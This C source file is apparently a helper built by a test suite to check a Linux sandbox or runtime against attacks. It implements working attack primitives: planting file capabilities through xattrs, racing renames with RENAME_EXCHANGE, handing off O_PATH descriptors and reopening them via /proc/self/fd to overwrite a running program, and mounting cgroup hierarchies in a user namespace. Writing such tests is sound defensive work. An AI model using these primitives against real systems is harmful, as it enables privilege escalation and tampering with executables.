/*
 * What attackers need and a shell cannot do; built by the tests.
 *
 *   attacker grant FILE BIT        gives FILE the inheritable capability, effective when run
 *   attacker swap A B              exchanges the names A and B until it is killed
 *   attacker offer SOCKET PATH     opens PATH and hands the descriptor to whoever connects, once
 *   attacker overwrite SOCKET TEXT takes a descriptor there, opens its file again for writing, and writes TEXT into it
 *   attacker hierarchy NAME DIR    mounts that hierarchy of control groups as root of a user namespace of its own
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#define TRIES 600

static int report(const char *what)
{
	printf("%s: %s\n", what, strerror(errno));
	return 1;
}

static int grant(const char *file, int bit)
{
	struct vfs_cap_data data = { .magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE };
	data.data[bit / 32].inheritable = 1U << (bit % 32);
	return setxattr(file, "security.capability", &data, sizeof data, 0) ? report("setxattr") : 0;
}

static int swap(const char *a, const char *b)
{
	for (;;)
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE))
			return report("renameat2");
}

static int at(const char *path, struct sockaddr_un *address)
{
	*address = (struct sockaddr_un){ .sun_family = AF_UNIX };
	snprintf(address->sun_path, sizeof address->sun_path, "%s", path);
	return socket(AF_UNIX, SOCK_STREAM, 0);
}

static int offer(const char *path, const char *file)
{
	struct sockaddr_un address;
	union {
		struct cmsghdr header;
		char space[CMSG_SPACE(sizeof(int))];
	} control = { .header = { .cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS } };
	struct iovec data = { .iov_base = "x", .iov_len = 1 };
	struct msghdr message = { .msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control };
	int server = at(path, &address), fd = open(file, O_PATH);
	if (fd < 0 || bind(server, (struct sockaddr *)&address, sizeof address) || listen(server, 1))
		return report(file);
	memcpy(CMSG_DATA(&control.header), &fd, sizeof fd);
	int peer = accept(server, NULL, NULL);
	return peer < 0 || sendmsg(peer, &message, 0) != 1 ? report("sendmsg") : 0;
}

static int overwrite(const char *path, const char *text)
{
	struct sockaddr_un address;
	union {
		struct cmsghdr header;
		char space[CMSG_SPACE(sizeof(int))];
	} control;
	char byte, name[64];
	struct iovec data = { .iov_base = &byte, .iov_len = 1 };
	struct msghdr message = { .msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control };
	struct timespec pause = { .tv_nsec = 5000000 };
	int peer = at(path, &address), fd, out = -1;
	if (connect(peer, (struct sockaddr *)&address, sizeof address) || recvmsg(peer, &message, 0) != 1)
		return report("recvmsg");
	memcpy(&fd, CMSG_DATA(&control.header), sizeof fd);
	snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
	printf("taken\n");
	fflush(stdout);
	/* As long as the program runs nobody may write to it. */
	for (int tries = 0; out < 0 && tries < TRIES; tries++)
		if ((out = open(name, O_WRONLY)) < 0)
			nanosleep(&pause, NULL);
	if (out < 0 || write(out, text, strlen(text)) < 0)
		return report("write");
	printf("overwritten\n");
	return 0;
}

static int hierarchy(const char *name, const char *directory)
{
	char options[128];
	snprintf(options, sizeof options, "none,name=%s", name);
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP))
		return report("unshare");
	if (mount("none", directory, "cgroup", 0, options))
		return report("mount");
	printf("mounted\n");
	return 0;
}

int main(int argc, char **argv)
{
	const char *verb = argc == 4 ? argv[1] : "";
	if (strcmp(verb, "grant") == 0)
		return grant(argv[2], atoi(argv[3]));
	if (strcmp(verb, "swap") == 0)
		return swap(argv[2], argv[3]);
	if (strcmp(verb, "offer") == 0)
		return offer(argv[2], argv[3]);
	if (strcmp(verb, "overwrite") == 0)
		return overwrite(argv[2], argv[3]);
	if (strcmp(verb, "hierarchy") == 0)
		return hierarchy(argv[2], argv[3]);
	fputs("usage: see attacker.c\n", stderr);
	return 2;
}
